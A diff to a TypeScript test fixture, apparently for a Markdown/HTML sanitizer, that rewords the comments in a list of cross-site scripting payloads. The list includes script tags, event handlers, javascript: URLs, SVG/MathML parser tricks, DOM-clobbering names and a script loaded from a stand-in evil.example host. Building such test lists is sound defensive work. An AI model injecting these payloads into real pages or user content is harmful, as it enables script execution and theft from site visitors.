@@ -1,6 +1,6 @@
-/** Ways into a page through Markdown and HTML, after the well-known cheat sheets. */
+/** Attacks through Markdown and HTML, from the well-known cheat sheets. */
 export const XSS_VECTORS: string[] = [
-  // Scripts and handlers.
+  // Scripts and event handlers.
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
   '<script/x>alert(1)</script>',
@@ -30,7 +30,7 @@ export const XSS_VECTORS: string[] = [
   '<textarea onfocus=alert(1) autofocus>',
   '<keygen onfocus=alert(1)>',
   '<isindex action=javascript:alert(1)>',
-  // Addresses in Markdown.
+  // URLs in Markdown.
   '[x](javascript:alert(1))',
   '[x](JaVaScRiPt:alert(1))',
   '[x](javascript&colon;alert(1))',
@@ -57,7 +57,7 @@ export const XSS_VECTORS: string[] = [
   '[x]: <javascript:alert(1)>\n\n[x][] ![x]',
   '<javascript:alert(1)>',
   '<data:text/html,x>',
-  // Addresses in HTML.
+  // URLs in HTML.
   '<a href="javascript:alert(1)">x</a>',
   '<a href=" javascript:alert(1)">x</a>',
   '<a href="&#1;javascript:alert(1)">x</a>',
@@ -111,7 +111,7 @@ export const XSS_VECTORS: string[] = [
   '<template shadowrootmode=open><script>alert(1)</script></template>',
   '<slot onslotchange=alert(1)></slot>',
   '<x-element is="a" onfocus=alert(1) tabindex=1>x</x-element>',
-  // SVG, MathML and what parsers make of them.
+  // SVG, MathML and parser quirks.
   '<svg onload=alert(1)>',
   '<svg><script>alert(1)</script></svg>',
   '<svg/onload=alert(1)//',
@@ -133,7 +133,7 @@ export const XSS_VECTORS: string[] = [
   '<math><mi><mglyph><img src=x onerror=alert(1)></mglyph></mi></math>',
   '<math><mspace width="9999em" height="9999em"/><mpadded voffset="-999em" lspace="-9999em">x</mpadded></math>',
   '<p><svg><title><template><style></title><img src=x onerror=alert(1)>',
-  // Raw text, comments and instructions.
+  // Raw text, comments and processing instructions.
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
   '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
@@ -164,7 +164,7 @@ export const XSS_VECTORS: string[] = [
   '```html\n<script>alert(1)</script>\n```',
   '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"]\nclick A "javascript:alert(1)"\n%%{init: {"securityLevel": "loose"}}%%\n```',
   '```mermaid"onload="alert(1)\nx\n```',
-  // Names of the page's own.
+  // Names that the page itself uses.
   '<a id="app" name="body">x</a><img name="cookie" id="forms">',
   '<a name="__proto__" id="constructor">x</a>',
   '<h2 id="search">x</h2>',
@@ -175,7 +175,7 @@ export const XSS_VECTORS: string[] = [
   '<div data-diagram="html" role="button" tabindex="-1" aria-hidden="false">x</div>',
   '# <a id="location">x</a> constructor',
   '# __proto__',
-  // Mathematics.
+  // Math.
   '$\\href{javascript:alert(1)}{x}$',
   '$\\url{javascript:alert(1)}$',
   '$\\includegraphics{javascript:alert(1)}$',
@@ -200,7 +200,7 @@ export const XSS_VECTORS: string[] = [
   '- [x] <img src=x onerror=alert(1)>',
   'www.a.example/"onmouseover="alert(1) https://a.example/<script>alert(1)</script>',
   '<https://a.example/"onclick="alert(1)>',
-  // Elements that would end one of the page around the article.
+  // Elements that would close one of the page around the article.
   '</div></article></main></body></html><script>alert(1)</script>',
   '<ul><li><div><li>x</li></div></li></ul></div></div>',
   '<table><tr><td><div><td>x</td></div></td></tr></table>',
